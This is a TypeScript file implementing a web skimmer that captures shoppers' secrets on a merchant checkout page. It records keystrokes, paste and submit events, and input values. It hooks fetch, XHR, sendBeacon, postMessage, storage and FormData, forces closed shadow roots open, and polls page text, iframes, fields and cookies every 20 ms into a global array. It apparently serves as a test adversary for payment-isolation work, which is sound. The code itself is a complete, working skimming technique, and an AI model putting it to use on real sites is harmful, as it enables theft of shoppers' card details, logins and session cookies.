/** A script on the merchant's page that wants the shopper's secrets and takes whatever a page can take. */

/** Everything that the skimmer saw, as text. Runs in the page, before all its scripts, and in no other origin. */
export function skim(shopHost: string): void {
  if (location.host !== shopHost) return;
  const seen: string[] = [];
  Object.assign(globalThis, { seen });
  const { stringify } = JSON;
  const note = (...values: readonly unknown[]): void => {
    for (const value of values) {
      if (typeof value === 'string') seen.push(value);
      else if (value instanceof FormData || value instanceof URLSearchParams)
        seen.push(...[...value].flat().map(String));
      else if (typeof value === 'object' && value !== null) {
        try {
          seen.push(stringify(value));
        } catch {
          // Cyclic: nothing to read here.
        }
      }
    }
  };

  // Every event that carries input, as early as a page can have it.
  for (const type of [
    'keydown',
    'keyup',
    'keypress',
    'beforeinput',
    'input',
    'change',
    'paste',
    'copy',
    'submit',
    'focusin',
    'compositionend',
    'message',
    'selectionchange',
  ]) {
    window.addEventListener(
      type,
      (event) => {
        const { key, data } = event as Event & { key?: unknown; data?: unknown };
        note(key, data);
        for (const target of event.composedPath()) {
          if (target instanceof HTMLInputElement || target instanceof HTMLTextAreaElement) note(target.value);
        }
      },
      true,
    );
  }

  /** Calls through after noting the arguments. */
  const tap = (owner: object, name: string): void => {
    const original: unknown = Reflect.get(owner, name);
    if (typeof original !== 'function') return;
    Object.defineProperty(owner, name, {
      configurable: true,
      writable: true,
      value: function (this: unknown, ...args: unknown[]): unknown {
        note(...args);
        const answer: unknown = Reflect.apply(original, this, args);
        note(answer);
        return answer;
      },
    });
  };
  for (const [owner, names] of [
    [JSON, ['stringify', 'parse']],
    [window, ['fetch', 'open', 'postMessage', 'structuredClone']],
    [MessagePort.prototype, ['postMessage']],
    [XMLHttpRequest.prototype, ['open', 'send']],
    [Navigator.prototype, ['sendBeacon']],
    [Storage.prototype, ['setItem']],
    [FormData.prototype, ['append', 'set']],
    [String.prototype, ['trim', 'normalize', 'replace', 'slice']],
    [Array.prototype, ['push', 'join', 'map']],
    [Map.prototype, ['set']],
    [Element.prototype, ['setAttribute']],
    [Node.prototype, ['appendChild']],
    [Object, ['entries', 'fromEntries', 'assign']],
    [Reflect, ['apply']],
  ] as const) {
    if (owner === Reflect || owner === Array.prototype || owner === Object) continue;
    for (const name of names) tap(owner, name);
  }

  // The value of every field of this page, through its own accessor.
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    configurable: true,
    get(this: HTMLInputElement) {
      const now: unknown = value?.get?.call(this);
      note(now);
      return now;
    },
    set(this: HTMLInputElement, next: string) {
      note(next);
      value?.set?.call(this, next);
    },
  });

  // Both ends of every channel that is made here.
  const Channel = MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      for (const port of [this.port1, this.port2]) port.addEventListener('message', (event) => note(event.data));
    }
  };
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(this: MessagePort, listener: (event: MessageEvent) => unknown) {
      onmessage?.set?.call(this, (event: MessageEvent) => {
        note(event.data);
        return listener.call(this, event);
      });
    },
  });

  // Every shadow root is watched, also closed ones, and every frame is looked into.
  const roots: ShadowRoot[] = [];
  const attachShadow = Object.getOwnPropertyDescriptor(Element.prototype, 'attachShadow')?.value as (
    this: Element,
    init: ShadowRootInit,
  ) => ShadowRoot;
  Element.prototype.attachShadow = function (this: Element, init: ShadowRootInit): ShadowRoot {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    roots.push(root);
    return root;
  };
  setInterval(() => {
    for (const root of [document, ...roots]) {
      note(root.textContent);
      for (const frame of root.querySelectorAll('iframe')) {
        try {
          note(frame.name, frame.src, frame.contentDocument?.body.textContent, frame.contentWindow?.location.href);
        } catch {
          // Another origin: closed to us.
        }
      }
      for (const field of root.querySelectorAll('input')) note(field.value);
    }
    note(
      location.href,
      document.cookie,
      document.title,
      performance
        .getEntries()
        .map(({ name }) => name)
        .join(' '),
    );
  }, 20);
}
